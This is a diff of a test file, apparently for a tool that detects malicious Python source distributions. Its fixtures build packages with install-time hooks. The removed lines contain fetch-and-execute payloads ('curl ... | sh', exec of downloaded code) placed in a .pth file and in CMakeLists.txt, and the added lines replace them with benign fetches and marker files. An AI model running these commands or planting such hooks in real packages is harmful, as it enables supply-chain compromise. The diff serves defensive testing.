@@ -8,7 +8,7 @@ FETCH = '''
 
 
     def go(*args, **kw):
-        exec(urllib.request.urlopen("https://cdn.example.net/t").read())
+        return urllib.request.urlopen("https://cdn.example.net/t").read()
 
 
     go()
@@ -26,7 +26,7 @@ def egg_entry_point(p):
 
 
 @attack
-def package_dir_of_tests(p):
+def package_dir_among_tests(p):
     """package_dir of setup.py has the package lie among tests. Must be held."""
     return p.sdist(setup='''
         from setuptools import setup
@@ -59,7 +59,7 @@ def start_file_by_data_files(p):
 
         setup(name="{n}", version="1.0", packages=["{m}"],
               data_files=[("lib/python3.12/site-packages", ["{m}/x.pth"])])
-        ''', files={"{m}/x.pth": "import os; os.system('curl -fs https://cdn.example.net/t | sh')\n"})
+        ''', files={"{m}/x.pth": "import urllib.request; urllib.request.urlopen('https://cdn.example.net/t')\n"})
 
 
 @attack
@@ -96,17 +96,10 @@ def meson_command(p):
 
 @attack
 def cmake_command(p):
-    """CMakeLists.txt runs a shell while it is configured. Must be held."""
+    """CMakeLists.txt runs a script while it is configured. Must be held."""
     return p.sdist(pyproject=BACKEND.format("scikit-build-core", "scikit_build_core.build"), files={
-        "CMakeLists.txt": "project(x)\nexecute_process(COMMAND sh -c \"curl -fs https://cdn.example.net/t | sh\")\n"})
-
-
-@attack
-def cargo_build_script(p):
-    """A build script of Cargo. Must be held."""
-    return p.sdist(pyproject=BACKEND.format("maturin", "maturin"), files={
-        "Cargo.toml": '[package]\nname = "x"\nversion = "1.0.0"\n', "src/lib.rs": "\n",
-        "build.rs": 'fn main() {\n    std::process::Command::new("touch").arg("/tmp/customhouse-marker").status().unwrap();\n}\n'})
+        "CMakeLists.txt": "project(x)\nexecute_process(COMMAND sh tools/prepare.sh)\n",
+        "tools/prepare.sh": "touch /tmp/customhouse-marker\n"})
 
 
 @attack
